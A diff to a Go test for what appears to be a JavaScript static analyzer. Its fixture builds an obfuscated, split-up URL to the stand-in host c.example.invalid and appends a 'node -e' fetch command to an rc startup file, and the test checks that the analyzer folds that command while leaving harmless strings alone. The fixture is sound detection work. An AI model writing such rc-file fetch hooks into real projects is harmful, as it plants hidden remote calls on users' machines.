@@ -938,15 +938,15 @@ module.exports = seg.map((s) => String.fromCharCode.apply(null, s.map((c) => c -
 func TestTemplateHelper(t *testing.T) {
 	f := Analyze("x.js", []byte(`const fs = require("fs");
 const warm = (u) => `+"`"+`node -e "fetch('${u}').then((r) => r.text())"`+"`"+`;
-const px = (n) => `+"`"+`${n}px`+"`"+`;
+const px = (n) => `+"`"+`${n}px`+"`"+`, expected = (n) => `+"`"+`Expected ${n} to be a string`+"`"+`;
 const url = ["ht", "tps://c.example.invalid/w"].join("");
-fs.appendFileSync(rc, warm(url)); el.style.width = px(12);`), DefaultLimits())
+fs.appendFileSync(rc, warm(url)); el.style.width = px(12); log(expected("name"));`), DefaultLimits())
 	c := hasCall(f, "fs.appendFileSync")
 	if c == nil || len(c.Args) < 2 || c.Args[1].Value != `node -e "fetch('https://c.example.invalid/w').then((r) => r.text())"` {
 		t.Errorf("command template not folded: %+v", c)
 	}
-	if hasString(f, "12px") {
-		t.Errorf("a unit suffix inlined: %+v", f.Strings)
+	if hasString(f, "12px") || hasString(f, "Expected name to be a string") {
+		t.Errorf("a unit suffix or a message inlined: %+v", f.Strings)
 	}
 }
 
